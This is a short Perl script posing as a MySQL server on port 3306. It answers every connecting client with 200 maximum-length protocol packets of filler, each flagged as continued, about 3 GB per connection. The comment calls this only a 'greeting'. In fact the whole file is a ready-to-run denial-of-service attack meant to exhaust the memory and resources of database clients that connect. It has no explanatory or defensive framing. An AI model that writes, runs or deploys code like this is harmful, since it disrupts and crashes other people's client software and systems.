#!/usr/bin/perl
# Sends a greeting of packets that are each followed by another, as fast as they are read.
use strict; use warnings; use IO::Socket::INET; $| = 1;
my $listener = IO::Socket::INET->new(LocalPort => 3306, Listen => 50, ReuseAddr => 1) or die;
$SIG{CHLD} = 'IGNORE';
while (my $client = $listener->accept) {
    next if fork;
    $client->autoflush(1);
    my $packet = "\xff\xff\xff\0" . "8" x 0xffffff;
    print $client $packet or exit for 1 .. 200;
    exit;
}
